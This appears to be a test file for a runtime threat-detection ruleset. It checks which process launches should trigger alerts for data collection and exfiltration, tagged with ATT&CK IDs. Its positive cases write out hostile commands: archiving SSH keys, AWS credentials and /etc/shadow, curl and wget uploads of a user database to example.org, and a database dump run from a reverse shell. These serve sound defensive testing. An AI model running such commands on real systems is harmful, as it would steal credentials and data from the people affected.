import { O } from '@ringfence/testkit';
import { REMOTE, testContent } from './support.ts';

testContent('collection.yaml', {
  'Secrets packed into an archive': {
    as: 'error collection T1560.001',
    fires: {
      'tar packs a folder of keys': (s) => s.start('/usr/bin/tar czf /tmp/x.tgz /root/.ssh'),
      'zip packs keys by a relative name': (s) => s.start('/usr/bin/zip -r out.zip .aws'),
      'tar packs the password hashes': (s) => s.start('/usr/bin/tar cf - /etc/passwd /etc/shadow'),
    },
    quiet: {
      'tar packs a project': (s) => s.start('/usr/bin/tar czf site.tgz ./site'),
      'the name only looks alike': (s) => s.start('/usr/bin/tar xzf my.sshfs.tar.gz /opt/app.kubernetes'),
      'ls lists the same folder': (s) => s.start('/usr/bin/ls /root/.ssh'),
    },
  },
  'Upload by a transfer tool in a container': {
    as: 'warning exfiltration T1048',
    fires: {
      'curl uploads a file': (s) => s.start('/usr/bin/curl -T /data/users.db https://example.org/', s.inside),
      'curl posts a file as a form': (s) =>
        s.start('/usr/bin/curl -F f=@/data/users.db https://example.org/', s.inside),
      'curl posts to a name that begins like loopback': (s) =>
        s.start('/usr/bin/curl -T /data/users.db http://localhost.example.org/', s.inside),
      'curl posts a file as its body': (s) =>
        s.start('/usr/bin/curl --data-binary @/data/users.db https://example.org/', s.inside),
      "busybox's wget posts a file": (s) =>
        s.start('wget --post-file=/data/users.db http://example.org/', s.inside, {}, '/bin/busybox'),
    },
    quiet: {
      'curl asks an API with JSON': (s) =>
        s.start(['/usr/bin/curl', '-d', '{"query":"x"}', 'http://search:9200/_search'], s.inside),
      'curl posts a file to a server in the same container': (s) =>
        s.start('/usr/bin/curl -F f=@/data/a.jpg http://127.0.0.1:8080/upload', s.inside),
      'curl downloads': (s) => s.start('/usr/bin/curl -fsSL -o /srv/a https://example.org/a', s.inside),
      'the same on a host': (s) => s.start('/usr/bin/curl -T site.tgz https://example.org/'),
    },
  },
  'Folders of people packed into a scratch folder': {
    as: 'notice collection T1074.001 T1560.001',
    fires: { 'home folders': (s) => s.start('/usr/bin/tar czf /tmp/.x.tgz /home /etc') },
    quiet: {
      'into a backup': (s) => s.start('/usr/bin/tar czf /var/backups/etc.tgz /etc'),
      'it is unpacked': (s) => s.start('/usr/bin/tar xzf /tmp/x.tgz -C /srv'),
    },
  },
  'Archive with a password': {
    as: 'warning collection T1560.001',
    fires: {
      zip: (s) => s.start('/usr/bin/zip -r -P secret x.zip docs'),
      '7z': (s) => s.start('/usr/bin/7z a -psecret -mhe=on x.7z docs'),
    },
    quiet: {
      'without one': (s) => s.start('/usr/bin/zip -r x.zip docs'),
      'it is unpacked': (s) => s.start('/usr/bin/unzip -P secret x.zip'),
    },
  },
  "Database dumped by a server's command": {
    as: 'error collection T1213',
    fires: {
      'in a reverse shell': (s) =>
        s.start('/usr/bin/mysqldump --all-databases', s.start('/bin/sh', s.inside, REMOTE), REMOTE),
    },
    quiet: {
      'by cron': (s) => s.start('/usr/bin/mysqldump shop', s.start('/usr/sbin/cron -f', s.init)),
      'a question': (s) => s.start('/usr/bin/mysql -e x', s.inside, REMOTE),
    },
  },
  'Mail of others read': {
    as: 'notice collection T1114.001',
    fires: { 'by cat': (s) => s.open(s.start('/bin/cat x'), '/var/mail/ann') },
    quiet: {
      'by a reader of mail': (s) => s.open(s.start('/usr/bin/mutt'), '/var/mail/ann'),
      'it is delivered': (s) => s.open(s.start('/usr/lib/postfix/local', s.init), '/var/mail/ann', O.WRONLY | O.APPEND),
    },
  },
  'Screen, sound or clipboard recorded': {
    as: 'notice collection T1113 T1115 T1123',
    fires: {
      'the screen': (s) => s.start('/usr/bin/scrot /tmp/x.png'),
      'the microphone': (s) => s.start('/usr/bin/ffmpeg -f alsa -i default x.wav'),
    },
    quiet: {
      'a film is converted': (s) => s.start('/usr/bin/ffmpeg -i a.mkv b.mp4'),
      'a picture is shown': (s) => s.start('/usr/bin/eog x.png'),
    },
  },
});
